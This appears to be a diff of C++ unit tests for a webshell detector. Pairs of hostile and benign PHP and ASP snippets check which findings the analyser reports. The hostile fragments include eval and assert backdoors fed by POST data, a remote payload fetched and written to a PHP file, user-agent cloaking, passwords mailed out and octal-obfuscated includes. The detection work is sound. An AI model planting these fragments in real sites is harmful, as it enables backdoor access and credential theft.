@@ -180,6 +180,94 @@ TEST(WebshellDeeds, ElementsWithTheirKeys) {
               Not(Contains("code.hidden_name")));
 }
 
+// create_function() makes a function of two texts; whoever calls it passes on what a request sends.
+TEST(WebshellDeeds, FunctionsMadeOfTexts) {
+  const std::string made = "create_fun" + std::string("ction('$a', 'return ass") + "ert($a[0]);')";
+  EXPECT_THAT(seen_in("preg_replace_callback('/.+/', " + made + ", " + kPost + "['x']);"),
+              Contains("code.run_input"));
+  EXPECT_THAT(seen_in("$i = new CallbackFilterIterator(new ArrayIterator(array(" + kPost +
+                      "['x'])), " + made + "); foreach ($i as $e) echo $e;"),
+              Contains("code.run_input"));
+  EXPECT_THAT(seen_in("$f = create_fun" + std::string("ction('$a', 'return strlen($a);'); usort(") +
+                      kPost + "['x'], $f);"),
+              Not(Contains("code.run_input")));
+}
+
+// fopen(c.php, w): names without quotes were texts once.
+TEST(WebshellDeeds, ScriptsWrittenInOneLine) {
+  EXPECT_GE(score_of("fputs(fopen(c.php,w),\"<?" + kEval + "(" + kPost + "[c]);?>\");"), 70);
+  EXPECT_LT(score_of("fputs(fopen(c.txt,w),\"name: " + kPost + "[c]\");"), 30);
+}
+
+TEST(WebshellDeeds, NamesInsideTexts) {
+  const std::string fetch = "$t = file_get_contents('https://192.0.2.1/t'); $p = getcwd(); ";
+  EXPECT_THAT(seen_in(fetch + "$n = 'up.php'; $h = fopen(\"$p/$n\", 'w'); fwrite($h, $t);"),
+              Contains("code.write_input"));
+  EXPECT_THAT(seen_in(fetch + "$n = 'up.xml'; $h = fopen(\"$p/$n\", 'w'); fwrite($h, $t);"),
+              Not(Contains("code.write_input")));
+}
+
+TEST(WebshellDeeds, PatternsThatNobodySets) {
+  EXPECT_THAT(seen_in("@preg_fil" + std::string("ter($p, ") + kPost + "['t'], '');"),
+              Contains("code.opaque_call"));
+  EXPECT_THAT(
+      seen_in("$p = '/a/'; echo preg_fil" + std::string("ter($p, ") + kPost + "['t'], '');"),
+      Not(Contains("code.opaque_call")));
+}
+
+TEST(WebshellDeeds, SitesOfAllAccounts) {
+  EXPECT_THAT(seen_in("foreach (scandir('/home') as $u) echo $u;"), Contains("code.account_list"));
+  EXPECT_THAT(seen_in("foreach (scandir('/home/site/uploads') as $u) echo $u;"),
+              Not(Contains("code.account_list")));
+}
+
+TEST(WebshellDeeds, PagesOfAFixedHostByArgument) {
+  const std::string get = "function get($u) { return file_get_contents($u); } ";
+  const std::string agent = "if (strpos($_SERVER['HTTP_USER_AGENT'], 'google')) ";
+  EXPECT_THAT(seen_in(get + agent + "echo get('http://192.0.2.1/p?' . $_SERVER['HTTP_HOST']);"),
+              Contains("code.cloak"));
+  EXPECT_THAT(seen_in(get + agent + "echo get($base . $_SERVER['HTTP_HOST']);"),
+              Not(Contains("code.cloak")));
+}
+
+TEST(WebshellDeeds, PasswordsThatAreMailed) {
+  const std::string text = "$m = \"Password: \" . " + kPost + "['pass'] . \"\\n\"; ";
+  EXPECT_THAT(seen_in(text + "$m .= getenv('REMOTE_ADDR'); mail('a@example.org', 'x', $m);"),
+              Contains("code.harvest"));
+  EXPECT_THAT(seen_in("$m = \"Name: \" . " + kPost +
+                      "['name'] . getenv('REMOTE_ADDR'); "
+                      "mail('a@example.org', 'x', $m);"),
+              Not(Contains("code.harvest")));
+}
+
+// An icon that is included, its name in octal escapes.
+TEST(WebshellDeeds, IncludedIcons) {
+  EXPECT_THAT(seen_in("@include \"\\057srv/\\167ww/.a1\\142.ic\\157\";"),
+              Contains("code.include_strange"));
+  EXPECT_THAT(seen_in("include \"\\057srv/\\167ww/a1.\\160hp\";"),
+              Not(Contains("code.include_strange")));
+}
+
+TEST(WebshellDeeds, NamesBetweenBlanks) {
+  EXPECT_THAT(seen_in("$f = sanitize_key('a s s' . ' e r t'); $f(" + kPost + "['x']);"),
+              Contains("code.hidden_name"));
+  EXPECT_THAT(seen_in("$f = sanitize_key('my_own'); $f(" + kPost + "['x']);"),
+              Not(Contains("code.hidden_name")));
+}
+
+// A script that names PHP as its program gets its arguments from whoever starts it.
+TEST(WebshellDeeds, ArgumentsOfTheCommandLine) {
+  const std::string code = "include $_SERVER['argv'][1];";
+  const auto seen = [](const std::string& content) {
+    std::vector<std::string> names;
+    for (const Witness& witness : analyse(content, "a.php").witnesses)
+      names.push_back(witness.name);
+    return names;
+  };
+  EXPECT_THAT(seen(kPhp + code), Contains("code.include_input"));
+  EXPECT_THAT(seen("#!/usr/bin/env php\n" + kPhp + code), Not(Contains("code.include_input")));
+}
+
 std::vector<std::string> seen_in_page(const std::string& page, const std::string& name) {
   std::vector<std::string> names;
   for (const Witness& witness : analyse(page, name).witnesses) names.push_back(witness.name);
@@ -272,6 +360,35 @@ TEST(WebshellRounds, TooLongToCompute) {
                       "chr(ord($t[$i]) ^ 3); return $o; } " +
                       kEval + "(d('" + constant + "'));"),
               Contains("code.run_opaque"));
+}
+
+// The last extension hides the one that the server goes by; a page's own texts may hold PHP's tag.
+TEST(WebshellPages, LanguageOfAPage) {
+  const std::string page =
+      "<% x = \"<" + std::string("?php echo 1; ?\" & \">\"\n") + kEval + "(request(\"a\")) %>";
+  for (const char* name : {"a.asp", "a.asp.txt", "a.txt"}) {
+    const Judgement judgement = analyse(page, name);
+    ASSERT_FALSE(judgement.languages.empty()) << name;
+    EXPECT_EQ(judgement.languages.front(), ScriptLanguage::kVbScript) << name;
+    EXPECT_GE(judgement.score(), 70) << name;
+  }
+  EXPECT_TRUE(analyse(kPhp + "echo $_GET['a'];", "a.php.txt").named_script);
+  EXPECT_FALSE(analyse(kPhp + "echo $_GET['a'];", "php.txt").named_script);
+  // Tags in a Perl script are texts of it.
+  EXPECT_THAT(
+      seen_in_page("print '<" + std::string("?php ") + kEval + "(" + kPost + "[1]);';", "a.pl"),
+      Not(Contains("code.run_input")));
+}
+
+TEST(WebshellPages, LinesThatWereJoined) {
+  EXPECT_GE(analyse("<%On Error Resume Next " + kEval + "(request(\"a\"))%>", "a.asp").score(), 70);
+}
+
+TEST(WebshellPages, AccountsOfTheFileService) {
+  const std::string send = "<% u = request(\"u\"): s = \"SITE MAINT" + std::string("ENANCE\"");
+  EXPECT_THAT(seen_in_page(send + " %>", "a.asp"), Contains("code.account_input"));
+  EXPECT_THAT(seen_in_page("<% u = request(\"u\"): s = \"SITE HELP\" %>", "a.asp"),
+              Not(Contains("code.account_input")));
 }
 
 }  // namespace
